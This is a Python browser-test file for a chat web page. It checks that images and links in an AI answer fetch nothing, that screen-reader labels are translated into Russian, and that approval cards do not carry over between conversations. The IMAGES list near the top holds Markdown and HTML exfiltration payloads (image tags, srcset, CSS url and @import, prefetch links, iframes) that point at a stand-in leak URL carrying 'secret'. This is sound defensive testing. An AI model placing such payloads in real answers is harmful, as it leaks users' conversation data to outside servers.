"""Faults of chat pages that users reported: images that leak, English names, others' cards."""

import asyncio
import json
import threading
from typing import Any

import pytest

from tests.browser import Browser
from tests.web.conftest import Open
from tests.web.played_server import RUN, THREAD, Play, events
from tests.web.test_page_cards import STARTED, card, shows
from web.texts import page_texts

LEAK = "http://127.0.0.1:9/leak"
IMAGES = [
    f"![x]({LEAK}?q=secret)",
    f"![x](<{LEAK}?q=secret>)",
    f'![x]({LEAK}?q=secret "title")',
    f"[![x]({LEAK}?q=1)]({LEAK}?q=2)",
    f"![x][leak]\n\n[leak]: {LEAK}?q=secret",
    f'<img src="{LEAK}?q=secret">',
    f'<picture><source srcset="{LEAK}"><img srcset="{LEAK} 1x"></picture>',
    f'<div style="background: url({LEAK})">x</div><style>@import "{LEAK}";</style>',
    f'<link rel="prefetch" href="{LEAK}"><iframe src="{LEAK}"></iframe>',
    f"| a |\n|---|\n| ![x]({LEAK}?q=secret) |",
    f"{LEAK}?q=secret",
]


def test_no_image_or_link_in_an_answer_fetches_anything(page: Open, play: Play) -> None:
    text = "\n\n".join(IMAGES)
    chunk = {"type": "AIMessageChunk", "id": "a", "content": text}
    browser = page()
    play.keeps({"type": "ai", "id": "a", "content": text, "tool_calls": []})
    play.runs.append(events(STARTED, ("messages", [chunk, {}]), hold=0.5))
    browser.say("hello")
    browser.says("#log", "secret")
    browser.idle()
    assert len(browser.all("#log a")) >= 3  # they were read as Markdown
    shows(play, card(shown=IMAGES, prompt=text, user_text=text))
    browser = page(thread=THREAD)
    browser.find(".card")
    assert browser.all("#log img, .card img, iframe, #log style, #log link") == []
    assert browser.complaints() == []  # nor was anything refused, which would be an attempt
    assert [url for url in browser.requests() if url.startswith(LEAK)] == []


NAMES = """
const names = new Set();
const spoken = ["aria-label", "aria-description", "aria-roledescription", "aria-valuetext",
  "aria-placeholder", "title", "placeholder", "alt", "label"];
for (const node of document.querySelectorAll("*"))
  for (const name of spoken) if (node.getAttribute(name)) names.add(node.getAttribute(name));
return [...names];
"""
"""Every name that stands in an attribute: what a screen reader says and nobody else sees."""

DATA = {"Start maintenance", "Dashboard “Sales” (id 3)"}
ROLES = ("button", "textbox", "radio", "radiogroup", "log", "alert", "status", "region", "heading")


def tree(browser: Browser) -> set[str]:
    """The names of all that a screen reader can reach by its role."""
    nodes = browser.command("Accessibility.getFullAXTree")["nodes"]
    known = [one for one in nodes if not one["ignored"] and one["role"]["value"] in ROLES]
    return {one.get("name", {}).get("value", "").strip() for one in known} - {""}


def spoken(browser: Browser) -> set[str]:
    return (tree(browser) | set(browser.run(NAMES))) - DATA - {"Pilothouse"}


def texts(lang: Any) -> set[str]:
    return set(json.loads(page_texts(lang)).values())


@pytest.mark.parametrize("switched", [False, True])
def test_what_a_screen_reader_says_is_in_the_language(
    page: Open, play: Play, switched: bool
) -> None:
    shows(play, card(1), card(2))
    play.approvals = {"four_eyes": True, "cards": [card(7, asker="olga")], "mine": {}}
    browser = page(lang="en" if switched else "ru", thread=THREAD)
    browser.find("#peers .card")
    if switched:
        browser.press("#language")
        browser.until(lambda: browser.run("return document.documentElement.lang") == "ru", "no")
    names = spoken(browser)
    untranslated = texts("en") - texts("ru")
    assert names & untranslated == set()
    assert len([name for name in names if any("а" <= letter <= "я" for letter in name)]) > 5
    latin = [name for name in names if not any("а" <= letter <= "я" for letter in name.lower())]
    assert latin == ["English"]  # the way to the other language is named in it


def test_a_card_stays_with_its_conversation(page: Open, play: Play) -> None:
    """Leave while a run goes on: its card comes too late and is not shown in the next one."""
    browser, left = page(), threading.Event()
    shows(play, card())
    asked = ("updates", {"__interrupt__": [{"id": "i", **play.state["interrupts"][0]}]})
    play.keeps()

    async def late(request: Any) -> Any:
        await asyncio.to_thread(left.wait, 10)
        return await events(STARTED, asked)(request)

    play.runs.append(late)
    browser.say("Start maintenance")
    browser.until(play.sent, "nothing was sent")
    browser.press("#new")
    left.set()
    answer = {"type": "AIMessageChunk", "id": "b", "content": "Good day"}
    play.keeps({"type": "ai", "id": "b", "content": "Good day", "tool_calls": []})
    play.runs.append(events(("metadata", {"run_id": RUN}), ("messages", [answer, {}])))
    browser.say("hello")
    browser.says("#log", "Good day")
    browser.idle()
    assert browser.all(".card") == []


def test_an_open_card_does_not_follow_into_a_new_conversation(page: Open, play: Play) -> None:
    shows(play, card())
    browser = page(thread=THREAD)
    browser.find(".card")
    play.keeps()
    browser.press("#new")
    browser.until(lambda: not browser.all(".card"), "the card stays")
    assert "withdraws the open card" not in browser.text("#composer")
